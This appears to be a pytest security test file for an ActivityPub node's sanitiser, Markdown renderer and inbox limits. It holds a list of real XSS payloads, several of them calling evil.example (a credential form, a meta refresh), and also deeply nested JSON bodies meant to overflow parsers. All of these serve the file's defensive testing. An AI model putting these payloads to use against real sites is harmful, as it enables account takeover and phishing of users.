"""Hostile input: real XSS payloads through the sanitiser (remote HTML and members' Markdown),
through the inbox into the stored object and the rendered page; inbox bodies that lie about
their size or nest without end."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from html.parser import HTMLParser

import pytest

from activitypub.model import from_json
from activitypub.vocab import PUBLIC
from node.objects import sanitize_html
from node.posts.markup import render_markdown
from tests.conftest import node_settings, running_app
from tests.peers import RemotePeer

BASE = "http://127.0.0.1:8999"
ORG = f"{BASE}/groups/voisins"

# Payloads from the OWASP XSS filter evasion cheat sheet and HTML5 Security Cheatsheet families.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg onload=alert(1)><circle r="40"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<style>body{display:none}</style><p>after</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<body onload=alert(1)>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
    '<<script>script>alert(1)<</script>/script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '"><script>alert(1)</script>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<template><script>alert(1)</script></template>',
    '<a href="https://ok.example/" target="_top" onclick="x()">ok</a>',
]

ALLOWED_TAGS = {"p", "br", "a", "span", "strong", "em", "b", "i", "ul", "ol", "li",
                "blockquote", "code", "pre", "h1", "h2", "h3", "h4", "del", "u"}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "data", "formaction", "srcdoc"}


class Inspector(HTMLParser):
    """Reads sanitised HTML the way a browser tokenises it and lists what could run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"attribute {name}")
            if name in URL_ATTRIBUTES and value is not None:
                # Browsers drop tabs, newlines and leading spaces inside URL schemes.
                squeezed = "".join(ch for ch in value if ch > " ").lower()
                if not squeezed.startswith(("http://", "https://", "/", "#")):
                    self.problems.append(f"{name}={value!r}")


def assert_harmless(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.problems == [], f"{inspector.problems} in {html!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_defuses_xss(payload):
    clean = sanitize_html(payload)
    assert_harmless(clean)
    assert sanitize_html(clean) == clean  # idempotent: sanitising twice changes nothing


def test_safe_markup_and_links_survive():
    clean = sanitize_html('<p>Soupe <strong>ce soir</strong> <a href="https://ok.example/">'
                          "lien</a></p>")
    assert "<strong>ce soir</strong>" in clean
    assert 'href="https://ok.example/"' in clean and 'rel="nofollow noopener noreferrer"' in clean


@pytest.mark.parametrize("payload", PAYLOADS)
def test_members_markdown_cannot_inject(payload):
    assert_harmless(render_markdown(payload))
    assert_harmless(render_markdown(f"[click](javascript:alert(1)) and {payload}"))


def test_every_text_field_of_a_remote_object_is_sanitised():
    obj = {"id": "https://evil.example/n/1", "type": "Note",
           "attributedTo": "https://evil.example/u/m",
           "content": PAYLOADS[2], "contentMap": {"fr": PAYLOADS[0], "en": PAYLOADS[12]},
           "name": "<b onmouseover=x>name</b>", "summary": "<script>s</script>cw"}
    clean = from_json(obj)
    for value in (clean.content_html, *clean.content_map.values()):
        assert_harmless(value)
    assert "<" not in clean.name and "<" not in clean.summary


@pytest.fixture
async def peer() -> AsyncIterator[RemotePeer]:
    remote = RemotePeer("127.0.0.3")
    remote.add_actor("mallory")
    await remote.astart()
    yield remote
    await remote.astop()


async def test_xss_from_a_followed_peer_is_stored_and_shown_harmless(app_node, peer):
    node, client = app_node
    mallory = peer.actors["mallory"]
    await node.db.execute(
        "INSERT INTO follows (follower_uri, followee_uri, activity_id, state, created_at) "
        "VALUES (:o, :m, 'f1', 'accepted', 0)", {"o": ORG, "m": mallory.uri})
    content = "".join(PAYLOADS)
    note = {"id": f"{peer.base}/notes/1", "type": "Note", "attributedTo": mallory.uri,
            "content": content, "contentMap": {"fr": content}, "to": [PUBLIC],
            "published": "2026-11-20T10:00:00Z", "tag": [{"type": "Hashtag", "name": "#soup"}]}
    create = {"id": f"{peer.base}/activities/1", "type": "Create", "actor": mallory.uri,
              "object": note, "to": [PUBLIC]}
    assert (await peer.apost(client, mallory, f"{BASE}/inbox", create)).status_code == 202
    stored = await node.db.fetch_val("SELECT payload FROM objects WHERE uri = :u",
                                     {"u": note["id"]})
    assert stored is not None
    payload = json.loads(stored)
    assert_harmless(payload["content_html"])
    assert_harmless(payload["content_map"]["fr"])
    # (The home page lists open offers and needs; a note is seen where its hashtag is.)
    page = (await client.get("/tags/soup")).text
    shown = [part.split("</div>", 1)[0] for part in page.split('<div class="content">')[1:]]
    assert shown and any("click" in part for part in shown)  # the note is on the page...
    for part in shown:
        assert_harmless(part)  # ...and nothing in it runs


@pytest.fixture
async def small_inbox(tmp_path, database_url) -> AsyncIterator[tuple]:
    settings = node_settings(tmp_path, database_url, NODE_MAX_INBOX_BYTES="2048")
    async with running_app(settings) as pair:
        yield pair


async def test_inbox_size_limit_is_configurable_and_holds_without_content_length(small_inbox):
    node, client = small_inbox
    body = b'{"id": "https://x.example/a", "pad": "' + b"x" * 4096 + b'"}'

    async def chunks():
        for i in range(0, len(body), 512):
            yield body[i:i + 512]

    # Streamed: no Content-Length header, so only counting the bytes read can stop it.
    resp = await client.post("/inbox", content=chunks())
    assert "content-length" not in resp.request.headers
    assert resp.status_code == 413 and "2048" in resp.json()["error"]
    resp = await client.post("/inbox", content=body)
    assert resp.status_code == 413
    assert await node.db.fetch_val("SELECT COUNT(*) FROM inbox_log") == 0


@pytest.mark.parametrize("body", [
    b"[" * 200_000 + b"]" * 200_000,  # deep enough to overflow a recursive parser
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b'{"id": "https://x.example/1", "type": "Note", "actor": "https://x.example/u", '
    b'"object": ' + b"[" * 40 + b"]" * 40 + b"}",
])
async def test_deep_json_is_refused_cleanly(tmp_path, database_url, body):
    settings = node_settings(tmp_path, database_url, NODE_MAX_INBOX_BYTES=str(1024 * 1024))
    async with running_app(settings) as (node, client):
        resp = await client.post("/inbox", content=body)
        assert resp.status_code == 400, resp.text
        assert "JSON" in resp.json()["error"]
        assert await node.db.fetch_val("SELECT COUNT(*) FROM inbox_log") == 0


async def test_unsigned_get_of_private_pages_leaks_nothing(app_node):
    _, client = app_node
    for path in ("/moderation", "/me/data", "/me/delete", "/blocks", "/report"):
        resp = await client.get(path)
        assert resp.status_code == 303 and resp.headers["location"] == "/login"
    resp = await client.post("/me/delete", data={"password": "x", "confirm": "yes"})
    assert resp.status_code == 303
